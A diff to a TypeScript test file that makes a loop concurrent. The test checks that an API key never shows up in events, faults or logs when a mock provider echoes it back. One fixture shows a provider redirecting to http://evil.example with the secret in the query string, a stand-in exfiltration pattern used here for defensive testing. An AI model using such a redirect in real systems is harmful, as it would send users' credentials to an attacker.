@@ -272,7 +272,7 @@ test('what the door does not let out was not sent and costs nothing', async () =
 })
 
 test('the key is in no event, no fault and no line of the log, whatever the provider repeats', async (t) => {
-  for (const kind of kinds) {
+  await Promise.all(kinds.map(async (kind) => {
     const echo = [
       (to: Parameters<typeof stream>[0]) => { to.writeHead(401).end(JSON.stringify({ error: { message: `bad key ${secret}` } })) },
       (to: Parameters<typeof stream>[0]) => { to.writeHead(302, { location: `http://evil.example/?k=${secret}` }).end() },
@@ -290,5 +290,5 @@ test('the key is in no event, no fault and no line of the log, whatever the prov
       assert.doesNotMatch(JSON.stringify([answer.events, log]), /sk-test/)
       assert.equal(seen[0]?.headers.authorization, `Bearer ${secret}`)
     }
-  }
+  }))
 })
